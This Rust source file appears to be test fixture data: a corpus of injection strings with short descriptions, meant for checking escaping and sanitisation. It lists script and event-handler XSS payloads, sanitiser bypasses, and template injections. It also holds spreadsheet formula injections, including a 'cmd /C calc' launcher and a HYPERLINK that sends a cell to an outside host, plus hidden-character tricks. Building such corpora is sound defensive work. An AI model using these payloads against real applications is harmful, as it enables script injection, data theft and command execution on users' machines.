//! Texts that want to be something else, each with a word what it would do where text is not kept as text.

/// Whatever runs leaves a mark: the title changes, or `ran` is there.
pub const CORPUS: [(&str, &str); 46] = [
    ("<script>document.title='ran'</script>", "a script"),
    (
        "</title></select><script>document.title='ran'</script>",
        "a script after leaving the element",
    ),
    ("<img src=x onerror=\"document.title='ran'\">", "a handler"),
    (
        "<svg onload=document.title='ran'>",
        "a handler in a picture",
    ),
    (
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.document.title='ran'</script>\">",
        "a page in a picture",
    ),
    (
        "<math><mtext></table><mglyph><style><img src onerror=document.title='ran'>",
        "a sanitiser's mistake",
    ),
    (
        "<a href=\"javascript:document.title='ran'\">name</a>",
        "a link that runs",
    ),
    ("javascript:document.title='ran'", "an address that runs"),
    (
        "\"><input autofocus onfocus=document.title='ran'>",
        "leaves a double-quoted attribute",
    ),
    (
        "' onpointerenter=document.title='ran' x='",
        "leaves a single-quoted attribute",
    ),
    (
        "x\" style=\"position:fixed;inset:0\" y=\"",
        "covers the page",
    ),
    ("</style><style>*{display:none}</style>", "hides the page"),
    ("<base href=https://example.org/>", "moves every address"),
    (
        "<meta http-equiv=refresh content=0;url=https://example.org>",
        "leaves the page",
    ),
    (
        "<link rel=prefetch href=https://example.org>",
        "asks another host",
    ),
    ("<!-- <b>", "a comment that hides the rest"),
    (
        "--><script>document.title='ran'</script>",
        "leaves a comment",
    ),
    ("]]><script>document.title='ran'</script>", "leaves CDATA"),
    ("${document.title='ran'}", "a template literal"),
    (
        "{{constructor.constructor('document.title=1')()}}",
        "a template of a framework",
    ),
    ("<%= 7*7 %>", "a template of a server"),
    ("&lt;b&gt; &#60;i&#62; &amp;", "an entity read twice"),
    ("%3Cscript%3E%0A%00", "an address read twice"),
    ("=1+1", "a formula"),
    ("+1+cmd|' /C calc'!A0", "a formula that starts a program"),
    ("-1+1", "a formula"),
    ("@SUM(1+1)", "a formula"),
    ("=cmd|' /C calc'!A0", "starts a program"),
    (
        "=HYPERLINK(\"https://example.org?\"&A1,\"click\")",
        "sends a cell away",
    ),
    ("=WEBSERVICE(\"https://example.org\")", "asks another host"),
    (
        "=IMPORTXML(\"https://example.org\",\"//a\")",
        "asks another host",
    ),
    ("\t=1+2", "a formula behind a tab"),
    ("\r=1+3", "a formula behind a return"),
    (" =1+4", "a formula behind a space"),
    ("\u{a0}=1+5", "a formula behind a hard space"),
    ("\u{feff}=1+6", "a formula behind a byte order mark"),
    ("\u{200b}=1+7", "a formula behind nothing to see"),
    ("\u{ff1d}1+8", "a formula in wide letters"),
    ("\u{ff0b}1+9", "a formula in wide letters"),
    ("\u{ff0d}1+10", "a formula in wide letters"),
    ("\u{ff20}SUM(1+11)", "a formula in wide letters"),
    ("one;=1+12;\"=1+13", "a formula after another delimiter"),
    ("two,\"quoted\",=1+14", "a formula after the delimiter"),
    ("line\n=1+15", "a formula on a line of its own"),
    ("Left\u{202e}5.3 thgiR", "turns what comes after it round"),
    (
        "Shown\u{7}\u{1b}[2J\u{200f}\u{2066}hidden",
        "letters nobody sees",
    ),
];

/// Words that are there in every object of JavaScript.
pub const INHERITED: [&str; 6] = [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "then",
];

/// As a cell of a CSV file.
pub fn cell(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}
